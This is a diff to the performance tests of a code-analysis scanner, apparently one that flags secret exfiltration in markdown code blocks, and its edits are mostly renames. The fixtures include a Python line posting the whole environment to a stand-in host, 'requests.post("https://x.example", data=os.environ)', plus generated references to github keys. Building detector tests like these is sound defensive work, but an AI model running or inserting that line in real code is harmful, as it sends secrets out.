@@ -9,7 +9,7 @@ import { markText } from "@parapet/code-analysis/text/marked-text.ts";
 
 const markdown = (text: string) => markText(text, "markdown");
 
-function told(text: string): void {
+function judged(text: string): void {
   const marked = markdown(text);
   const pieces = codePieces(marked).map(({ text: code, language, ...within }) => ({
     path: "a.md",
@@ -30,7 +30,7 @@ const hiddenSteps = Buffer.from(
 ).toString("base64");
 const payload = "a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9t0u1v2";
 
-/** As many lines as a script may have beside a text of 120,000 characters. */
+/** As many lines as a script may have next to a text of 120,000 characters. */
 function again(head: string, line: string): void {
   const text = `import base64\nimport os\nimport requests\n${head}\n`;
   const rest = line.repeat(Math.floor((250_000 - text.length) / line.length));
@@ -121,7 +121,7 @@ test.each<[name: string, read: () => unknown, mostMs?: number]>([
     8_000,
   ],
   [
-    "many keys of one service beside many hosts",
+    "many keys of one service next to many hosts",
     () => {
       const keys = Array.from({ length: 12_000 }, (_, at) => `process.env.github_key_${at};`);
       const hosts = Array.from({ length: 40 }, (_, at) => `"https://api${at}.github.com/"`);
@@ -165,20 +165,22 @@ test.each<[name: string, read: () => unknown, mostMs?: number]>([
       ),
   ],
   [
-    "a word of many hyphens beside code",
+    "a word of many hyphens next to code",
     () =>
-      told(`Run:\n\n\`\`\`python\n${`x = "${"a-".repeat(16_000)}"\n`.repeat(6)}${sends}\`\`\`\n`),
+      judged(`Run:\n\n\`\`\`python\n${`x = "${"a-".repeat(16_000)}"\n`.repeat(6)}${sends}\`\`\`\n`),
   ],
   [
-    "a comment of many blanks beside code",
+    "a comment of many blanks next to code",
     () =>
-      told(`Run:\n\n\`\`\`python\n${`# avoid${" ".repeat(32_000)}x\n`.repeat(8)}${sends}\`\`\`\n`),
+      judged(
+        `Run:\n\n\`\`\`python\n${`# avoid${" ".repeat(32_000)}x\n`.repeat(8)}${sends}\`\`\`\n`,
+      ),
   ],
   [
     "code with a hit in each of many lines",
     () => {
       const sent = 'requests.post("https://x.example", data=os.environ)\n';
-      told(
+      judged(
         `Run:\n\n\`\`\`python\nimport os, requests\n${`# ${"a b ".repeat(9)}\n${sent}`.repeat(4_000)}\`\`\`\n`,
       );
     },
